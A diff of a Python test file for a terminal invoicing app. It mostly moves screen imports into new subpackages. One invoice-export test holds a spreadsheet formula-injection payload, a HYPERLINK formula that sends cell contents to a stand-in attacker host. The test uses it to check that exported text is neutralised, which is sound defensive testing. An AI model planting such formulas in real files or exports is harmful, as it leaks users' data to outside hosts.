@@ -8,12 +8,12 @@ import json
 from textual.widgets import DataTable, Input, Select
 
 from ibok_tui.domain.models import AccountStatus
-from ibok_tui.screens.contracts import ContractsScreen
-from ibok_tui.screens.dialogs import PasswordConfirmDialog
-from ibok_tui.screens.file_picker import FilePickerDialog
-from ibok_tui.screens.invoice_detail import InvoiceDialog
-from ibok_tui.screens.login import LoginScreen
-from ibok_tui.screens.payment import PaymentDialog
+from ibok_tui.screens.account.login import LoginScreen
+from ibok_tui.screens.customer.contracts import ContractsScreen
+from ibok_tui.screens.customer.payment import PaymentDialog
+from ibok_tui.screens.forms.dialogs import PasswordConfirmDialog
+from ibok_tui.screens.forms.file_picker import FilePickerDialog
+from ibok_tui.screens.forms.invoice_detail import InvoiceDialog
 from ibok_tui.widgets.qr import QrCode
 from tests.support import scans
 from tests.ui.console_support import SIZE, Console, settle, text_of
@@ -161,7 +161,7 @@ async def test_faktury_exported_reads_back_as_numbers_dates_and_neutralised_text
     """A hostile invoice number becomes text; amounts are numbers; dates ISO (issue #11)."""
     import dataclasses
 
-    from ibok_tui.screens.invoices import InvoicesScreen
+    from ibok_tui.screens.customer.invoices import InvoicesScreen
 
     hostile = '=HYPERLINK("http://evil.example/?x="&A1;"Faktura")'
     app = console.app(console.backend("100001"))
